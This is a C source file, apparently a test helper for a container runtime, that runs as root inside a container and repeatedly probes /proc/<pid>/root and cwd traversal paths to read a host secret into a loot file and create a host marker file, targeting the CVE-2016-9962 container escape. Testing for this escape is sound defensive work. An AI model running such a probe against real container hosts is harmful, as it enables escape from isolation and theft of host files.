/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Runs in a container (static, copied into the busybox rootfs) as its
 * root, with the default capabilities:
 *
 *   procroot SECONDS SECRET MARKER LOOT
 *
 * For SECONDS, over and over, tries every process it can see in /proc
 * as a way to the host: /proc/<pid>/root<SECRET> and
 * /proc/<pid>/cwd/../..<SECRET> to read (what it reads is appended to
 * LOOT, a path of the container's), /proc/<pid>/root<MARKER> and
 * /proc/<pid>/cwd/../..<MARKER> to create.  SECRET and MARKER are host
 * paths: they exist, or can be made, only outside the container.  Made
 * for a new init that appears in this pid namespace (CVE-2016-9962). */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define UP "/../../../../../../../../../../../../../../../.."

static const char *secret, *marker, *loot;

static void try_read(const char *path)
{
	char buf[256];
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n;

	if (fd < 0)
		return;
	n = read(fd, buf, sizeof buf);
	close(fd);
	fd = open(loot, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
	if (fd >= 0 && n > 0 && write(fd, buf, (size_t)n) < 0)
		perror("write loot");
	if (fd >= 0)
		close(fd);
}

static void try_create(const char *path)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);

	if (fd >= 0)
		close(fd);
}

static void try_pid(const char *pid)
{
	char path[4096];

	snprintf(path, sizeof path, "/proc/%s/root%s", pid, secret);
	try_read(path);
	snprintf(path, sizeof path, "/proc/%s/cwd" UP "%s", pid, secret);
	try_read(path);
	snprintf(path, sizeof path, "/proc/%s/root%s", pid, marker);
	try_create(path);
	snprintf(path, sizeof path, "/proc/%s/cwd" UP "%s", pid, marker);
	try_create(path);
}

int main(int argc, char **argv)
{
	time_t end;

	if (argc != 5) {
		fprintf(stderr, "usage: procroot SECONDS SECRET MARKER LOOT\n");
		return 2;
	}
	end = time(NULL) + atoi(argv[1]);
	secret = argv[2];
	marker = argv[3];
	loot = argv[4];
	while (time(NULL) < end) {
		DIR *d = opendir("/proc");
		struct dirent *e;

		if (!d)
			return 1;
		while ((e = readdir(d)))
			if (e->d_name[0] >= '0' && e->d_name[0] <= '9')
				try_pid(e->d_name);
		closedir(d);
	}
	return 0;
}
